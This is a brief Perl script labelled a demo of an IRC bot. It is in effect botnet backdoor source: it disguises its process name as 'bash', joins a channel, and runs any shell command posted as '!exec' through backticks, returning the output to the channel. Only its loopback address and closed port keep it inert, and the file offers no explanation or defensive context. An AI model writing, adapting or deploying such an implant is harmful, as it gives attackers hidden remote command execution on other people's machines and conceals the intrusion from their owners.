#!/usr/bin/perl
# demo sample: the shape of an IRC bot; it points at a closed loopback port.
use IO::Socket::INET;
$0 = "bash";
my $server = "127.0.0.1"; my $port = 1; my $chan = "#demo";
my $sock = IO::Socket::INET->new(PeerAddr => $server, PeerPort => $port, Proto => 'tcp') or exit;
print $sock "NICK demo\r\nUSER demo 0 * :demo\r\nJOIN $chan\r\n";
while (my $line = <$sock>) {
    if ($line =~ /^PING (.*)/) { print $sock "PONG $1\r\n"; }
    if ($line =~ /PRIVMSG $chan :!exec (.*)/) { my $out = `$1`; print $sock "PRIVMSG $chan :$out\r\n"; }
}
